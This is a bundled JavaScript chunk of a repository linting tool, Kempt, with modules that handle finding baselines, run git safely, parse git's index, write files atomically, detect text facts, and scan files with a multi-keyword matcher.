function isRecord(value) {
    return typeof value === 'object' && value !== null;
}
function isEntry(value) {
    return isRecord(value) && ['path', 'rule', 'fingerprint'].every((key) => typeof value[key] === 'string');
}
/** Writes a baseline, one finding a line, so that a finding that goes is one line of a diff. */
function saveBaseline(top, path, baseline) {
    const lines = baseline.findings.map((entry) => `    ${JSON.stringify(entry)}`);
    const list = lines.length === 0 ? '[]' : `[\n${lines.join(',\n')}\n  ]`;
    (0,_write_file_js__WEBPACK_IMPORTED_MODULE_3__/* .writeAtomically */ .v)((0,node_path__WEBPACK_IMPORTED_MODULE_1__.resolve)(top, path), Buffer.from(`{\n  "version": 1,\n  "findings": ${list}\n}\n`));
}


/***/ }),

/***/ 9280:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   $Y: () => (/* binding */ git),
/* harmony export */   BE: () => (/* binding */ startGit),
/* harmony export */   Fo: () => (/* binding */ collect)
/* harmony export */ });
/* harmony import */ var node_child_process__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(1421);
/* harmony import */ var _domain_errors_js__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(9285);


/** Options that keep the user's git configuration from changing what git prints or runs. */
const plain = ['-c', 'core.quotePath=false', '-c', 'core.fsmonitor=false', '-c', 'diff.external='];
/** Starts git on `repository`; with paths taken literally, no prompts and no optional locks. */
function startGit(repository, args) {
    const where = repository.top === undefined ? ['--git-dir', repository.gitDir] : ['-C', repository.top];
    return (0,node_child_process__WEBPACK_IMPORTED_MODULE_0__.spawn)('git', [...where, ...plain, ...args], {
        stdio: ['pipe', 'pipe', 'pipe'],
        env: {
            ...process.env,
            GIT_LITERAL_PATHSPECS: '1',
            GIT_OPTIONAL_LOCKS: '0',
            GIT_TERMINAL_PROMPT: '0',
            LC_ALL: 'C',
        },
    });
}
/** Runs git and returns what it printed. Throws {@link UpstreamError} with git's own words if it fails. */
async function git(repository, args, input) {
    return await collect(startGit(repository, args), `git ${args[0] ?? ''}`, input);
}
/** What `child` prints, once it has ended well. */
async function collect(child, who, input) {
    const chunks = [];
    const errors = [];
    child.stdout?.on('data', (chunk) => chunks.push(chunk));
    child.stderr?.on('data', (chunk) => errors.push(chunk));
    // A child that ends before it has read all of its input is judged by its exit code.
    child.stdin?.on('error', () => undefined);
    child.stdin?.end(input);
    const status = await exit(child, who);
    if (status === 0)
        return chunks.length === 1 ? chunks[0] : Buffer.concat(chunks);
    const words = Buffer.concat(errors).toString('utf8').trim();
    throw new _domain_errors_js__WEBPACK_IMPORTED_MODULE_1__/* .UpstreamError */ .g(who, words === '' ? `${who} ended with status ${status}` : words, { status });
}
async function exit(child, who) {
    return await new Promise((resolve, reject) => {
        child.on('error', (cause) => {
            const reason = cause.code === 'ENOENT' ? 'git was not found on the PATH; install git' : cause.message;
            reject(new _domain_errors_js__WEBPACK_IMPORTED_MODULE_1__/* .UpstreamError */ .g(who, reason, { cause }));
        });
        child.on('close', (code, signal) => {
            if (code === null)
                reject(new _domain_errors_js__WEBPACK_IMPORTED_MODULE_1__/* .UpstreamError */ .g(who, `${who} was ended by ${signal ?? 'a signal'}`));
            else
                resolve(code);
        });
    });
}


/***/ }),

/***/ 9707:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   Ev: () => (/* binding */ parseLsFiles),
/* harmony export */   mh: () => (/* binding */ indexKey),
/* harmony export */   vY: () => (/* binding */ readIndex)
/* harmony export */ });
/* harmony import */ var node_fs__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(3024);
/* harmony import */ var node_path__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(6760);
/* harmony import */ var node_util_types__WEBPACK_IMPORTED_MODULE_2__ = __webpack_require__(3429);
/* harmony import */ var _domain_entry_js__WEBPACK_IMPORTED_MODULE_3__ = __webpack_require__(5676);
/* harmony import */ var _domain_path_js__WEBPACK_IMPORTED_MODULE_4__ = __webpack_require__(7061);





/** Offsets within an index entry; https://git-scm.com/docs/index-format */
const field = { mode: 24, size: 36, oid: 40, flags: 60, path: 62, extendedPath: 64 };
const extended = 0x4000;
const skipWorktree = 0x4000;
/**
 * Reads the index in place, which takes a tenth of the time of `git ls-files`.
 * Undefined if the index is of a kind that is better left to git: version 4, split, sparse, SHA-256.
 */
function readIndex(repository) {
    const bytes = readIndexBytes(repository);
    if (bytes === undefined)
        return { entries: [], bytes: Buffer.alloc(0), offsets: [], sparse: 0 };
    const version = bytes.length > 12 && bytes.toString('latin1', 0, 4) === 'DIRC' ? bytes.readUInt32BE(4) : 0;
    if ((version !== 2 && version !== 3) || usesSha256(repository))
        return undefined;
    return parseEntries(bytes);
}
function readIndexBytes(repository) {
    const named = process.env['GIT_INDEX_FILE'];
    try {
        return (0,node_fs__WEBPACK_IMPORTED_MODULE_0__.readFileSync)(named ? (0,node_path__WEBPACK_IMPORTED_MODULE_1__.resolve)(named) : (0,node_path__WEBPACK_IMPORTED_MODULE_1__.join)(repository.gitDir, 'index'));
    }
    catch (error) {
        if ((0,node_util_types__WEBPACK_IMPORTED_MODULE_2__.isNativeError)(error) && error.code === 'ENOENT')
            return undefined;
        throw error;
    }
}
function usesSha256(repository) {
    return /^\s*objectformat\s*=\s*sha256/im.test((0,node_fs__WEBPACK_IMPORTED_MODULE_0__.readFileSync)((0,node_path__WEBPACK_IMPORTED_MODULE_1__.join)(repository.commonDir, 'config'), 'utf8'));
}
function parseEntries(bytes) {
    const entries = [];
    const offsets = [];
    let sparse = 0;
    let previous = '';
    let at = 12;
    for (let left = bytes.readUInt32BE(8); left > 0; left--) {
        if (at + field.extendedPath > bytes.length)
            return undefined;
        const flags = bytes.readUInt16BE(at + field.flags);
        const start = at + (flags & extended ? field.extendedPath : field.path);
        const nameLength = flags & 0xfff;
        const end = nameLength < 0xfff ? start + nameLength : bytes.indexOf(0, start);
        const more = flags & extended ? bytes.readUInt16BE(at + field.path) : 0;
        if (more & skipWorktree)
            sparse++;
        else {
            const entry = toEntry(bytes, at, start, end);
            // An unmerged path stands here once per stage: it is one file.
            if (entry.path !== previous) {
                previous = entry.path;
                entries.push(entry);
                offsets.push(at);
            }
        }
        at += (end - at + 8) & ~7;
    }
    return hasMandatoryExtension(bytes, at) ? undefined : { entries, bytes, offsets, sparse };
}
function toEntry(bytes, at, start, end) {
    const mode = bytes.readUInt32BE(at + field.mode);
    const size = bytes.readUInt32BE(at + field.size);
    // ASCII is by far the most frequent and the cheapest to read.
    const path = bytes.toString('latin1', start, end);
    for (let i = start; i < end; i++) {
        if (bytes[i] > 0x7e || bytes[i] < 0x20)
            return { ...(0,_domain_path_js__WEBPACK_IMPORTED_MODULE_4__/* .decodePath */ .q0)(bytes.subarray(start, end)), mode, size };
    }
    if (mode !== _domain_entry_js__WEBPACK_IMPORTED_MODULE_3__/* .Mode */ .K.submodule)
        return { path, mode, size };
    return { path, mode, oid: bytes.toString('hex', at + field.oid, at + field.oid + 20) };
}
/** Extensions whose name begins with a lower-case letter must be understood by who reads the index. */
function hasMandatoryExtension(bytes, from) {
    for (let at = from; at + 8 <= bytes.length - 20; at += 8 + bytes.readUInt32BE(at + 4)) {
        if (bytes[at] >= 0x61)
            return true;
    }
    return false;
}
/** The first 64 bits of the object id of entry `i`, as two integers. */
function indexKey(listing, i) {
    const at = listing.offsets[i] + field.oid;
    return [listing.bytes.readInt32BE(at), listing.bytes.readInt32BE(at + 4)];
}
/** Parses `git ls-files -s -z`, the way for every index that {@link readIndex} leaves to git. */
function parseLsFiles(output) {
    const byPath = new Map();
    for (let at = 0; at < output.length;) {
        const end = output.indexOf(0, at);
        const tab = output.indexOf(9, at);
        const [mode = '', oid] = output.toString('latin1', at, tab).split(' ');
        const entry = { ...(0,_domain_path_js__WEBPACK_IMPORTED_MODULE_4__/* .decodePath */ .q0)(output.subarray(tab + 1, end)), mode: Number.parseInt(mode, 8), oid };
        byPath.set(entry.path, entry);
        at = end + 1;
    }
    return [...byPath.values()].filter((entry) => entry.mode in modeNames);
}
const modeNames = {
    [_domain_entry_js__WEBPACK_IMPORTED_MODULE_3__/* .Mode */ .K.file]: true,
    [_domain_entry_js__WEBPACK_IMPORTED_MODULE_3__/* .Mode */ .K.executable]: true,
    [_domain_entry_js__WEBPACK_IMPORTED_MODULE_3__/* .Mode */ .K.symlink]: true,
    [_domain_entry_js__WEBPACK_IMPORTED_MODULE_3__/* .Mode */ .K.submodule]: true,
};


/***/ }),

/***/ 1983:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   v: () => (/* binding */ writeAtomically)
/* harmony export */ });
/* harmony import */ var node_fs__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(3024);
/* harmony import */ var node_path__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(6760);


/**
 * Replaces the content of a file, or leaves it as it was: the new content is written beside it and then takes its
 * name. `mode`: permission bits to keep. Throws what the file system says (a full disk: ENOSPC).
 */
function writeAtomically(path, content, mode) {
    const temporary = (0,node_path__WEBPACK_IMPORTED_MODULE_1__.join)((0,node_path__WEBPACK_IMPORTED_MODULE_1__.dirname)(path), `.${(0,node_path__WEBPACK_IMPORTED_MODULE_1__.basename)(path)}.kempt-${process.pid}`);
    try {
        const fd = (0,node_fs__WEBPACK_IMPORTED_MODULE_0__.openSync)(temporary, 'wx', mode ?? 0o666);
        try {
            if (mode !== undefined)
                (0,node_fs__WEBPACK_IMPORTED_MODULE_0__.fchmodSync)(fd, mode);
            for (let at = 0; at < content.length;)
                at += (0,node_fs__WEBPACK_IMPORTED_MODULE_0__.writeSync)(fd, content, at);
            (0,node_fs__WEBPACK_IMPORTED_MODULE_0__.fsyncSync)(fd);
        }
        finally {
            (0,node_fs__WEBPACK_IMPORTED_MODULE_0__.closeSync)(fd);
        }
        (0,node_fs__WEBPACK_IMPORTED_MODULE_0__.renameSync)(temporary, path);
    }
    catch (error) {
        (0,node_fs__WEBPACK_IMPORTED_MODULE_0__.rmSync)(temporary, { force: true });
        throw error;
    }
}


/***/ }),

/***/ 1770:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   F: () => (/* binding */ toBaseline),
/* harmony export */   Q: () => (/* binding */ applyBaseline)
/* harmony export */ });
/**
 * Sets apart what the baseline lists. An entry counts for its own path; one whose path has no findings left also
 * counts for another (the file was renamed). `stale` are the entries that nothing needs any more.
 */
function applyBaseline(findings, baseline) {
    const left = new Map(baseline.findings.map((entry) => [keyOf(entry.path, entry), entry]));
    const paths = new Set(findings.map((finding) => finding.location.path));
    const suppressed = [];
    const claim = (finding, key) => {
        if (key === undefined || !left.delete(key))
            return false;
        suppressed.push({ finding, suppression: { kind: 'external', justification: 'in the baseline' } });
        return true;
    };
    const unknown = findings.filter((finding) => !claim(finding, keyOf(finding.location.path, finding)));
    const movable = new Map();
    for (const [key, entry] of left)
        if (!paths.has(entry.path))
            movable.set(`${entry.rule}\0${entry.fingerprint}`, key);
    const kept = unknown.filter((finding) => !claim(finding, movable.get(`${finding.rule}\0${finding.fingerprint}`)));
    return { findings: kept, suppressed, stale: [...left.values()] };
}
function keyOf(path, { rule, fingerprint }) {
    return `${path}\0${rule}\0${fingerprint}`;
}
/** The baseline that sets all of `findings` apart, in an order that makes small diffs. */
function toBaseline(findings) {
    const entries = findings.map(({ location, rule, fingerprint }) => ({ path: location.path, rule, fingerprint }));
    return { findings: entries.sort((a, b) => compare(keyOf(a.path, a), keyOf(b.path, b))) };
}
function compare(a, b) {
    return a < b ? -1 : a > b ? 1 : 0;
}


/***/ }),

/***/ 8678:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   Go: () => (/* binding */ isBinary),
/* harmony export */   R_: () => (/* binding */ textFacts),
/* harmony export */   vA: () => (/* binding */ edgeFacts)
/* harmony export */ });
/* harmony import */ var _domain_entry_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(5676);
/* harmony import */ var _domain_facts_js__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(5503);


const { trailingBlank, crlf, lf, cr, nonAscii, conflict, tabIndent, spaceIndent } = _domain_facts_js__WEBPACK_IMPORTED_MODULE_1__/* .Fact */ .d;
/** As in git (`buffer_is_binary`): a NUL within this many bytes makes a file binary. */
const binaryProbe = 8000;
/** Whether the content is to be treated as binary. */
function isBinary(buffer, length) {
    const end = Math.min(length, binaryProbe);
    for (let i = 0; i < end; i++)
        if (buffer[i] === 0)
            return true;
    return false;
}
/** The facts that take no look at the content as a whole. */
function edgeFacts(mode, buffer, length) {
    const executable = mode === _domain_entry_js__WEBPACK_IMPORTED_MODULE_0__/* .Mode */ .K.executable ? _domain_facts_js__WEBPACK_IMPORTED_MODULE_1__/* .Fact */ .d.executable : 0;
    if (length === 0)
        return executable | _domain_facts_js__WEBPACK_IMPORTED_MODULE_1__/* .Fact */ .d.empty;
    const first = buffer[0];
    const shebang = first === 0x23 && buffer[1] === 0x21 && length > 1 ? _domain_facts_js__WEBPACK_IMPORTED_MODULE_1__/* .Fact */ .d.shebang : 0;
    const mark = first === 0xef && buffer[1] === 0xbb && buffer[2] === 0xbf && length > 2 ? _domain_facts_js__WEBPACK_IMPORTED_MODULE_1__/* .Fact */ .d.byteOrderMark : 0;
    return executable | shebang | mark | endFacts(buffer, length);
}
function endFacts(buffer, length) {
    const last = buffer[length - 1];
    if (last !== 10 && last !== 13) {
        return _domain_facts_js__WEBPACK_IMPORTED_MODULE_1__/* .Fact */ .d.noFinalNewline | (last === 32 || last === 9 ? trailingBlank : 0);
    }
    const before = last === 10 && buffer[length - 2] === 13 ? length - 3 : length - 2;
    const extra = before < 0 || buffer[before] === 10 || buffer[before] === 13;
    return extra ? _domain_facts_js__WEBPACK_IMPORTED_MODULE_1__/* .Fact */ .d.extraFinalNewline : 0;
}
/**
 * The facts of a text, in one pass. This loop sees every byte of the repository: nearly all of them take its first
 * branch only.
 */
function textFacts(buffer, length) {
    let facts = lineStartFacts(buffer, 0, length);
    let seen = 0;
    for (let i = 0; i < length; i++) {
        const byte = buffer[i];
        seen |= byte;
        if (byte > 13)
            continue;
        if (byte === 10) {
            const previous = i > 0 ? buffer[i - 1] : 0;
            if (previous === 13) {
                facts |= crlf;
                if (i > 1 && isBlank(buffer[i - 2]))
                    facts |= trailingBlank;
            }
            else {
                facts |= lf;
                if (isBlank(previous))
                    facts |= trailingBlank;
            }
            const next = buffer[i + 1];
            if (next <= 0x3e || next === 0x7c)
                facts |= lineStartFacts(buffer, i + 1, length);
        }
        else if (byte === 13 && (i + 1 === length || buffer[i + 1] !== 10)) {
            facts |= cr;
            if (i > 0 && isBlank(buffer[i - 1]))
                facts |= trailingBlank;
        }
    }
    return seen > 0x7f ? facts | nonAscii : facts;
}
function isBlank(byte) {
    return byte === 32 || byte === 9;
}
function lineStartFacts(buffer, at, length) {
    if (at >= length)
        return 0;
    const byte = buffer[at];
    if (byte === 9)
        return tabIndent;
    if (byte === 32)
        return spaceIndent;
    if (byte !== 0x3c && byte !== 0x3d && byte !== 0x3e && byte !== 0x7c)
        return 0;
    for (let i = at + 1; i < at + 7; i++)
        if (i >= length || buffer[i] !== byte)
            return 0;
    return conflict;
}


/***/ }),

/***/ 7867:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {


// EXPORTS
__webpack_require__.d(__webpack_exports__, {
  S: () => (/* binding */ countPassedOver),
  z: () => (/* binding */ scan)
});

// EXTERNAL MODULE: ./lib/domain/entry.js
var domain_entry = __webpack_require__(5676);
// EXTERNAL MODULE: ./lib/domain/facts.js
var domain_facts = __webpack_require__(5503);
// EXTERNAL MODULE: ./lib/domain/file-type.js
var file_type = __webpack_require__(7889);
// EXTERNAL MODULE: ./lib/domain/finding.js
var finding = __webpack_require__(9813);
;// CONCATENATED MODULE: ./lib/domain/source-file.js
/**
 * The file that is being looked at. One instance serves a whole run and is pointed at one file after another, so that
 * a file without findings costs no allocation: a check must not keep it, nor its buffer, beyond its call.
 */
class SourceFile {
    path = '';
    /** As git stores it, see `Mode`. */
    mode = 0;
    /** See `FileType`. */
    types = 0;
    /** See `Fact`. */
    facts = 0;
    /** Bytes of content; they are `buffer[0]` to `buffer[length - 1]`. */
    length = 0;
    /** Holds the content, and may be longer than it. */
    buffer = Buffer.alloc(0);
    #text;
    #lineStarts;
    /** Points at another file. */
    reset(path, mode, types, facts, buffer, length) {
        this.path = path;
        this.mode = mode;
        this.types = types;
        this.facts = facts;
        this.buffer = buffer;
        this.length = length;
        this.#text = undefined;
        this.#lineStarts = undefined;
    }
    /** The content as text; bytes that are not UTF-8 become U+FFFD. A byte-order mark is kept. */
    text() {
        this.#text ??= this.buffer.toString('utf8', 0, this.length);
        return this.#text;
    }
    /** The content as bytes, without a copy. */
    bytes() {
        return this.buffer.subarray(0, this.length);
    }
    /** Byte offsets at which lines begin. A line ends after LF, CR LF, or a CR that no LF follows. */
    lineStarts() {
        this.#lineStarts ??= findLineStarts(this.buffer, this.length);
        return this.#lineStarts;
    }
    /** The 0-based index of the line that holds the byte at `offset`. */
    lineIndex(offset) {
        const starts = this.lineStarts();
        let low = 0;
        let high = starts.length - 1;
        while (low < high) {
            const middle = (low + high + 1) >> 1;
            if (starts[middle] <= offset)
                low = middle;
            else
                high = middle - 1;
        }
        return low;
    }
    /** Where the content of line `index` (0-based) ends: before its line end. */
    lineEnd(index) {
        let end = this.lineStarts()[index + 1] ?? this.length;
        if (end > 0 && this.buffer[end - 1] === 10)
            end--;
        if (end > 0 && this.buffer[end - 1] === 13)
            end--;
        return Math.max(end, this.lineStarts()[index]);
    }
    /** Line `index` (0-based) as text, without its line end. */
    line(index) {
        return this.buffer.toString('utf8', this.lineStarts()[index], this.lineEnd(index));
    }
    /** The region of `length` bytes from `offset`. */
    region(offset, length) {
        const first = this.lineIndex(offset);
        const last = length === 0 ? first : this.lineIndex(offset + length);
        return {
            startLine: first + 1,
            startColumn: this.#column(first, offset),
            endLine: last + 1,
            endColumn: this.#column(last, offset + length),
            byteOffset: offset,
            byteLength: length,
        };
    }
    #column(line, offset) {
        return this.buffer.toString('utf8', this.lineStarts()[line], offset).length + 1;
    }
}
function findLineStarts(buffer, length) {
    const starts = [0];
    for (let i = 0; i < length; i++) {
        const byte = buffer[i];
        if (byte === 10 || (byte === 13 && buffer[i + 1] !== 10))
            starts.push(i + 1);
    }
    if (starts.length > 1 && starts.at(-1) === length)
        starts.pop();
    return starts;
}

// EXTERNAL MODULE: ./lib/domain/suppression.js
var suppression = __webpack_require__(9448);
;// CONCATENATED MODULE: ./lib/lib/keywords.js
/**
 * Makes a scanner after Wu and Manber ("A fast algorithm for multi-pattern searching", 1994) with blocks of two bytes:
 * a table says for each pair how far the window may move on, so that most bytes are never looked at. Each word's window
 * is laid over its rarest pair, as text and code go, so that common pairs do not stop the scanner.
 * Throws if a word is shorter than two characters or not ASCII.
 */
function compileKeywords(words) {
    const patterns = words.map(toPattern);
    const width = patterns.reduce((least, { bytes }) => Math.min(least, bytes.length), 255);
    const shifts = new Uint8Array(65536).fill(width - 1);
    const buckets = [];
    /** Pair to index in `buckets`, plus one. */
    const bucketOf = new Uint16Array(65536);
    for (const pattern of patterns) {
        pattern.anchor = rarestWindow(pattern.bytes, width);
        for (let i = 0; i + 1 < width; i++) {
            for (const pair of pairsAt(pattern, pattern.anchor + i)) {
                shifts[pair] = Math.min(shifts[pair], width - 2 - i);
                if (i + 2 === width)
                    addTo(pair, pattern);
            }
        }
    }
    function addTo(pair, pattern) {
        if (bucketOf[pair] === 0)
            bucketOf[pair] = buckets.push([]);
        buckets[bucketOf[pair] - 1].push(pattern);
    }
    const find = (buffer, length, hit) => {
        if (patterns.length === 0)
            return false;
        for (let end = width - 1; end < length;) {
            const pair = (buffer[end - 1] << 8) | buffer[end];
            const shift = shifts[pair];
            if (shift > 0) {
                end += shift;
                continue;
            }
            const bucket = buckets[bucketOf[pair] - 1];
            for (let i = 0; i < bucket.length; i++) {
                const pattern = bucket[i];
                const start = end - width + 1 - pattern.anchor;
                if (standsAt(pattern, buffer, start, length) && hit(pattern.word, start))
                    return true;
            }
            end++;
        }
        return false;
    };
    return {
        scan(buffer, length, hit) {
            find(buffer, length, (word, offset) => {
                hit(word, offset);
                return false;
            });
        },
        has: (buffer, length) => find(buffer, length, () => true),
    };
}
function toPattern({ text, ignoreCase = false }, word) {
    const bytes = new Uint8Array(text.length);
    for (let i = 0; i < text.length; i++) {
        const code = text.charCodeAt(i);
        if (code > 0x7f)
            throw new Error(`A keyword must be ASCII: ${text}`);
        bytes[i] = ignoreCase ? toLower(code) : code;
    }
    if (bytes.length < 2)
        throw new Error(`A keyword must have at least two characters: ${text}`);
    return { word, bytes, ignoreCase, anchor: 0 };
}
function standsAt({ bytes, ignoreCase }, buffer, start, length) {
    if (start < 0 || start + bytes.length > length)
        return false;
    for (let i = 0; i < bytes.length; i++) {
        const byte = buffer[start + i];
        if (byte !== bytes[i] && !(ignoreCase && toLower(byte) === bytes[i]))
            return false;
    }
    return true;
}
/** The pair of bytes at `at`, in each case that it may come in. */
function pairsAt({ bytes, ignoreCase }, at) {
    const first = bytes[at];
    const second = bytes[at + 1];
    if (!ignoreCase)
        return [(first << 8) | second];
    const other = toUpper(first);
    const otherSecond = toUpper(second);
    return [
        (first << 8) | second,
        ...(other === first ? [] : [(other << 8) | second]),
        ...(otherSecond === second ? [] : [(first << 8) | otherSecond]),
        ...(other === first || otherSecond === second ? [] : [(other << 8) | otherSecond]),
    ];
}
function toLower(byte) {
    return byte >= 0x41 && byte <= 0x5a ? byte | 0x20 : byte;
}
function toUpper(byte) {
    return byte >= 0x61 && byte <= 0x7a ? byte & 0xdf : byte;
}
/** The start of the window of `width` bytes whose last pair is the rarest. */
function rarestWindow(bytes, width) {
    let best = 0;
    let least = Number.POSITIVE_INFINITY;
    for (let at = 0; at + width <= bytes.length; at++) {
        const frequency = commonness(bytes[at + width - 2]) * commonness(bytes[at + width - 1]);
        if (frequency < least) {
            least = frequency;
            best = at;
        }
    }
    return best;
}
/** How common a byte is in text and code, roughly; only the order matters. */
function commonness(byte) {
    const letter = 'zqxjkvbywgpfmuhdlcsrnoiate'.indexOf(String.fromCharCode(byte));
    if (letter >= 0)
        return 4 + letter;
    return byte === 0x20 ? 40 : byte === 0x2d || byte === 0x2e || byte === 0x5f ? 6 : 3;
}

// EXTERNAL MODULE: ./lib/pipeline/check/facts.js
var check_facts = __webpack_require__(8678);
;// CONCATENATED MODULE: ./lib/pipeline/check/scan.js








/** Looks once at each of `entries`, and lets every check that it concerns judge it. */
async function scan(snapshot, entries, checks, inputs, options = {}) {
    const scanner = new Scanner(checks, inputs, options);
    await snapshot.visit(entries, scanner);
    return scanner.result();
}
/** How many of `entries` some of `checks` leave alone because of what they are. */
function countPassedOver(checks, entries, everything) {
    const count = { generated: 0, vendored: 0, fixture: 0 };
    const excepted = everything ? 0 : checks.reduce((all, { check }) => all | (check.except ?? 0), 0);
    if (excepted !== 0)
        for (const { path } of entries)
            addPassedOver(count, (0,file_type/* fileTypes */.Ko)(path) & excepted);
    return count;
}
function addPassedOver(count, types) {
    if (types & file_type/* FileType */.pt.generated)
        count.generated++;
    else if (types & file_type/* FileType */.pt.vendored)
        count.vendored++;
    else if (types & file_type/* FileType */.pt.fixture)
        count.fixture++;
}
/** The state of one scan. */
class Scanner {
    #steps;
    #keywords;
    #keywordFacts;
    #suppressionFact;
    #options;
    #read;
    #file = new SourceFile();
    #findings = [];
    #suppressions = [];
    #unread = [];
    #notifications = [];
    #passedOver = { generated: 0, vendored: 0, fixture: 0 };
    #excepted = 0;
    #files = 0;
    #bytes = 0;
    #before = 0;
    #facts = 0;
    #entry;
    constructor(checks, inputs, options) {
        const words = [];
        const facts = [];
        let bit = domain_facts/* firstKeywordFact */.a;
        this.#steps = checks.map((selected) => {
            const { facts: wanted = 0, types = 0, binary = false } = selected.check;
            const except = options.everything ? 0 : (selected.check.except ?? 0);
            this.#excepted |= except;
            const own = selected.check.keywords?.() ?? [];
            if (own.length === 0)
                return { selected, facts: wanted, types, except, binary };
            for (const word of own) {
                words.push(word);
                facts.push(bit);
            }
            const step = { selected, facts: bit, types, except, binary };
            bit <<= 1;
            return step;
        });
        this.#keywordFacts = facts;
        this.#keywords = words.length > 0 ? compileKeywords(words) : undefined;
        this.#suppressionFact = this.#steps.find((step) => step.selected.check.id === 'suppressions')?.facts ?? 0;
        this.#options = options;
        this.#read = (path) => inputs.get(path);
    }
    result() {
        return {
            findings: this.#findings,
            suppressions: this.#suppressions,
            unread: this.#unread,
            notifications: this.#notifications,
            passedOver: this.#passedOver,
            files: this.#files,
            bytes: this.#bytes,
        };
    }
    file(entry, buffer, length) {
        if (entry.mode === domain_entry/* Mode */.K.symlink)
            return undefined;
        this.#files++;
        this.#bytes += length;
        this.#entry = entry;
        this.#before = this.#findings.length;
        const edge = (0,check_facts/* edgeFacts */.vA)(entry.mode, buffer, length);
        const binary = (0,check_facts/* isBinary */.Go)(buffer, length);
        this.#facts = binary ? edge & (domain_facts/* Fact */.d.executable | domain_facts/* Fact */.d.shebang | domain_facts/* Fact */.d.empty) : edge | this.#content(buffer, length);
        this.#file.reset(entry.path, entry.mode, (0,file_type/* fileTypes */.Ko)(entry.path), this.#facts, buffer, length);
        addPassedOver(this.#passedOver, this.#file.types & this.#excepted);
        return this.#runFrom(0, binary);
    }
    problem(entry, problem, detail) {
        this.#unread.push({ path: entry.path, problem, detail });
    }
    #content(buffer, length) {
        let facts = (0,check_facts/* textFacts */.R_)(buffer, length);
        this.#keywords?.scan(buffer, length, (word) => {
            facts |= this.#keywordFacts[word];
        });
        return facts;
    }
    #runFrom(first, binary) {
        const { types } = this.#file;
        for (let i = first; i < this.#steps.length; i++) {
            const step = this.#steps[i];
            if (binary && !step.binary)
                continue;
            if (step.facts !== 0 && (this.#facts & step.facts) === 0)
                continue;
            if (step.types !== 0 && (types & step.types) === 0)
                continue;
            if ((types & step.except) !== 0)
                continue;
            const wait = this.#run(step.selected);
            if (wait)
                return wait.then(() => this.#runFrom(i + 1, binary));
        }
        this.#finish();
        return undefined;
    }
    #run({ check, level, options, excludes }) {
        const report = (draft) => {
            if (!excludes(this.#file.path))
                this.#findings.push(toFinding(this.#file, check, level, draft));
        };
        try {
            return check.run(this.#file, report, options, this.#read)?.catch((error) => this.#failed(check.id, error));
        }
        catch (error) {
            this.#failed(check.id, error);
            return undefined;
        }
    }
    /** A check that throws is a bug of Kempt: it must not end the run, and must not pass for clean either. */
    #failed(id, error) {
        this.#notifications.push({
            level: 'error',
            id: 'check-failed',
            message: `The check ${id} failed: ${error instanceof Object && 'stack' in error ? String(error.stack) : String(error)}`,
            remedy: 'Please report this as a bug of Kempt.',
            path: this.#file.path,
        });
    }
    #finish() {
        const found = this.#findings.length > this.#before;
        if (found || (this.#facts & this.#suppressionFact) !== 0)
            this.#collectSuppressions(found);
        else if (this.#entry)
            this.#options.clean?.(this.#entry);
        this.#options.progress?.(this.#files);
    }
    #collectSuppressions(found) {
        if (found && this.#file.bytes().indexOf('kempt-ignore') < 0)
            return;
        const text = this.#file.text();
        const comments = (0,suppression/* parseSuppressions */.Q)(text, (this.#file.types & file_type/* FileType */.pt.markdown) !== 0);
        if (comments.length === 0)
            return;
        const regions = new Map(comments.map((comment) => [comment, regionOf(this.#file, text, comment)]));
        this.#suppressions.push({ path: this.#file.path, comments, region: (comment) => regions.get(comment) });
    }
}
function regionOf(file, text, comment) {
    const { offset, length } = comment.at;
    const start = Buffer.byteLength(text.slice(0, offset));
    return file.region(start, Buffer.byteLength(text.slice(offset, offset + length)));
}
function toFinding(file, check, level, draft) {
    const region = draft.at && file.region(draft.at.offset, draft.at.length);
    return (0,finding/* buildFinding */.U)({
        rule: draft.rule === undefined ? check.id : `${check.id}/${draft.rule}`,
        level: level ?? draft.level ?? check.level,
        message: draft.message,
        path: file.path,
        region,
        subject: region ? subjectOf(file, region) : '',
        snippet: draft.snippet,
        fix: draft.fix && toFix(file, draft.fix),
    });
}
/** The lines of the region, at most three: what makes a finding recognisable wherever it moves. */
function subjectOf(file, region) {
    const first = region.startLine - 1;
    const last = Math.min(region.endLine - 1, first + 2);
    return file.buffer.toString('utf8', file.lineStarts()[first], file.lineEnd(last));
}
function toFix(file, fix) {
    return {
        description: fix.description,
        edits: fix.edits.map(({ offset, length, text }) => ({ region: file.region(offset, length), text })),
    };
}


/***/ }),

/***/ 1607:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   W: () => (/* binding */ ofScope)
/* harmony export */ });
function ofScope(checks, scope) {
    return checks.filter(({ check }) => check.scope === scope);
}


/***/ })

};
